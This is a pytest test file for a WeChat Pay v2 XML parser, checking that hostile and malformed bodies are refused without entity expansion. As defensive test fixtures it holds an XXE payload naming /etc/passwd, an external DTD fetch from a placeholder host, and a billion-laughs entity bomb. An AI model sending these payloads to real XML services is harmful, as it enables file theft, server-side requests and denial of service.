"""Reading WeChat Pay API v2's XML (§10.1) without ever expanding what an attacker sends.

Every hostile document is refused by a reason, before lxml could resolve,
load or expand anything: nothing here can reach a file or the network
(an external entity naming a local file is refused, and its content is
never in the reason).
"""
from __future__ import annotations

import pytest

from payments.gateways.wechatpay_v2.xml import MAX_BODY_BYTES, XmlProblem, parse_fields, to_xml


def xxe(path: str) -> bytes:
    return f"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY leak SYSTEM "file://{path}">]>
<xml><return_code>&leak;</return_code></xml>""".encode()


XXE = xxe("/etc/passwd")
XXE_NETWORK = b"""<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://203.0.113.1/evil.dtd"> %remote;]>
<xml><return_code>SUCCESS</return_code></xml>"""
BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<xml><return_code>&lol9;</return_code></xml>"""
PLAIN_DOCTYPE = b"<!DOCTYPE xml><xml><return_code>SUCCESS</return_code></xml>"
LOWER_DOCTYPE = b"<!doctype xml><xml><return_code>SUCCESS</return_code></xml>"
DTD_ELEMENT = b"<!ELEMENT xml ANY><xml><return_code>SUCCESS</return_code></xml>"
GOOD = b"<xml><return_code><![CDATA[SUCCESS]]></return_code><total_fee>8800</total_fee></xml>"


@pytest.mark.parametrize(
    ("what", "body", "reason"),
    [
        ("XXE: an external entity", XXE, "markup declarations"),
        ("XXE: an external parameter entity", XXE_NETWORK, "markup declarations"),
        ("billion laughs", BILLION_LAUGHS, "markup declarations"),
        ("a DOCTYPE alone", PLAIN_DOCTYPE, "markup declarations"),
        ("a lower-case doctype", LOWER_DOCTYPE, "markup declarations"),
        ("a DTD declaration", DTD_ELEMENT, "markup declarations"),
        ("a comment", b"<xml><!-- x --><a>1</a></xml>", "markup declarations"),
        ("a processing instruction", b"<xml><?php echo 1 ?><a>1</a></xml>", "processing instructions"),
        ("an undefined entity", b"<xml><a>&leak;</a></xml>", "not well-formed"),
        ("non-UTF-8 bytes", "<xml><body>茶</body></xml>".encode("gbk"), "not UTF-8"),
        ("a GBK declaration", b'<?xml version="1.0" encoding="GBK"?><xml><a>1</a></xml>', "not UTF-8"),
        ("UTF-16", "<xml><a>1</a></xml>".encode("utf-16"), "not UTF-8"),
        ("2 MB", b"<xml><a>" + b"A" * (2 * 1024 * 1024) + b"</a></xml>", "more than"),
        ("truncated", GOOD[:-5], "not well-formed"),
        ("truncated inside CDATA", b"<xml><a><![CDATA[SUC", "unterminated CDATA"),
        ("empty", b"", "empty"),
        ("whitespace", b"  \n ", "empty"),
        ("not XML", b"return_code=SUCCESS", "not well-formed"),
        ("JSON", b'{"return_code": "SUCCESS"}', "not well-formed"),
        ("another root", b"<root><a>1</a></root>", "root element is not <xml>"),
        ("nested fields", b"<xml><a><b>1</b></a></xml>", "not a plain value"),
        ("attributes", b'<xml><a x="1">1</a></xml>', "not a plain value"),
        ("root attributes", b'<xml x="1"><a>1</a></xml>', "carries attributes"),
        ("a repeated field", b"<xml><a>1</a><a>2</a></xml>", "appears twice"),
        ("a namespace", b'<xml xmlns:n="urn:x"><n:a>1</n:a></xml>', "not a plain element"),
        ("stray text", b"<xml>oops<a>1</a></xml>", "outside its fields"),
        ("text after a field", b"<xml><a>1</a>oops</xml>", "text after field"),
    ],
)
def test_hostile_or_malformed_documents_are_refused_without_expansion(what, body, reason):
    with pytest.raises(XmlProblem, match=reason) as refused:
        parse_fields(body)
    assert len(refused.value.reason) < 200, what


def test_a_local_file_named_by_an_entity_never_reaches_the_reason(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT")
    with pytest.raises(XmlProblem) as refused:
        parse_fields(xxe(str(secret)))
    assert "TOP-SECRET" not in refused.value.reason


def test_cdata_and_escaped_text_are_read_as_their_values():
    body = ("<xml><return_code><![CDATA[SUCCESS]]></return_code><body><![CDATA[茶 & <杯>]]></body>"
            "<attach>a &amp; b &#x4E2D;</attach><empty></empty><cdata_gt><![CDATA[a]]]]><![CDATA[>b]]></cdata_gt>"
            "\n</xml>").encode()
    assert parse_fields(body) == {"return_code": "SUCCESS", "body": "茶 & <杯>", "attach": "a & b 中", "empty": "",
                                  "cdata_gt": "a]]>b"}


def test_a_cdata_section_may_hold_markup_like_text():
    assert parse_fields(b"<xml><a><![CDATA[<!DOCTYPE x><?php ?>]]></a></xml>") == {"a": "<!DOCTYPE x><?php ?>"}


def test_an_xml_declaration_saying_utf_8_and_a_bom_are_accepted():
    body = b'\xef\xbb\xbf<?xml version="1.0" encoding="UTF-8"?>\n' + GOOD
    assert parse_fields(body)["return_code"] == "SUCCESS"


def test_the_size_limit_is_the_module_constant():
    assert len(GOOD) < MAX_BODY_BYTES
    with pytest.raises(XmlProblem, match="more than"):
        parse_fields(GOOD + b" " * MAX_BODY_BYTES)


def test_the_decrypted_refund_info_has_its_own_root():
    assert parse_fields(b"<root><a>1</a></root>", root="root") == {"a": "1"}


def test_written_xml_escapes_values_and_reads_back():
    fields = {"body": "Tea & <Cups> ]]>", "total_fee": "8800"}
    written = to_xml(fields)
    assert written.startswith(b"<xml><body>Tea &amp; &lt;Cups&gt; ]]&gt;</body>")
    assert parse_fields(written) == fields


@pytest.mark.parametrize("fields", [{"bad name": "1"}, {"a": "bell \x07"}])
def test_written_xml_refuses_what_xml_cannot_hold(fields):
    with pytest.raises(ValueError):
        to_xml(fields)
